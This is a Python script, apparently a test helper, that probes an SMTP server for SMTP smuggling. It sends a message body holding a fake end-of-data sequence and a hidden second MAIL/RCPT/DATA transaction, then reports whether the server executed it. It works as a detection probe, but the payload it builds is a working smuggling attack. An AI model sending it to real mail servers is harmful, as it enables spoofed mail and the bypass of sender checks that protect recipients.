#!/usr/bin/env python3
"""An SMTP smuggling probe in the manner of the published scanners: one transaction whose
data holds a fake end-of-data sequence followed by a second, smuggled transaction, then
the real end (CRLF . CRLF) and QUIT. Prints every reply the server sent after the data,
as JSON, so the test can see whether the smuggled MAIL/RCPT/DATA were executed.

usage: smtp_smuggle.py --host H --port P [--mode plain|starttls|ssl] [--cafile CA]
                       [--tls-name NAME] [--user U --password PW]
                       --from ADDR --to ADDR --smuggled-to ADDR --seq HEX

prints {"data_replies": ["250 …", "221 …"], "error": null | "…"}
"""
import argparse
import base64
import json
import socket
import ssl
import sys


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--mode", choices=["plain", "starttls", "ssl"], default="plain")
    ap.add_argument("--cafile")
    ap.add_argument("--tls-name")
    ap.add_argument("--user")
    ap.add_argument("--password")
    ap.add_argument("--from", dest="mail_from", required=True)
    ap.add_argument("--to", required=True)
    ap.add_argument("--smuggled-to", required=True)
    ap.add_argument("--seq", required=True, help="the fake end-of-data sequence, hex")
    a = ap.parse_args()
    result = {"data_replies": [], "error": None}
    try:
        run(a, result)
    except Exception as e:  # a refusal is a result, any other failure is reported
        result["error"] = f"{type(e).__name__}: {e}"
    print(json.dumps(result))


def tls_context(a):
    ctx = ssl.create_default_context(cafile=a.cafile)
    return ctx


class Conn:
    def __init__(self, sock):
        self.sock = sock
        self.buf = b""

    def send(self, data):
        self.sock.sendall(data)

    def reply(self):
        """One whole (multi-line) reply as text."""
        lines = []
        while True:
            while b"\n" not in self.buf:
                chunk = self.sock.recv(65536)
                if not chunk:
                    raise EOFError("connection closed; got " + repr(lines))
                self.buf += chunk
            line, self.buf = self.buf.split(b"\n", 1)
            line = line.rstrip(b"\r").decode("utf-8", "replace")
            lines.append(line)
            if len(line) < 4 or line[3] != "-":
                return "\n".join(lines)

    def cmd(self, line, expect):
        self.send(line.encode() + b"\r\n")
        r = self.reply()
        if not r.startswith(expect):
            raise RuntimeError(f"{line!r}: expected {expect}, got {r!r}")
        return r


def run(a, result):
    sock = socket.create_connection((a.host, a.port), timeout=20)
    name = a.tls_name or a.host
    if a.mode == "ssl":
        sock = tls_context(a).wrap_socket(sock, server_hostname=name)
    c = Conn(sock)
    c.reply()
    c.cmd("EHLO scanner.remote.test", "250")
    if a.mode == "starttls":
        c.cmd("STARTTLS", "220")
        c = Conn(tls_context(a).wrap_socket(sock, server_hostname=name))
        c.cmd("EHLO scanner.remote.test", "250")
    if a.user:
        token = base64.b64encode(f"\0{a.user}\0{a.password}".encode()).decode()
        c.cmd("AUTH PLAIN " + token, "235")
    c.cmd(f"MAIL FROM:<{a.mail_from}>", "250")
    c.cmd(f"RCPT TO:<{a.to}>", "250")
    c.cmd("DATA", "354")
    seq = bytes.fromhex(a.seq)
    payload = (
        f"From: {a.mail_from}\r\nTo: {a.to}\r\nSubject: first\r\n\r\nfirst body".encode()
        + seq
        + f"MAIL FROM:<{a.mail_from}>\r\nRCPT TO:<{a.smuggled_to}>\r\nDATA\r\n".encode()
        + f"From: {a.mail_from}\r\nTo: {a.smuggled_to}\r\nSubject: smuggled\r\n\r\n".encode()
        + b"smuggled body\r\n.\r\nQUIT\r\n"
    )
    c.send(payload)
    # Every reply until the server closes: one for the data and 221 for QUIT when nothing
    # was smuggled; 250 250 354 250 first when it was.
    try:
        while True:
            r = c.reply()
            result["data_replies"].append(r)
            if r.startswith("221"):
                break
    except EOFError:
        pass


if __name__ == "__main__":
    sys.exit(main())
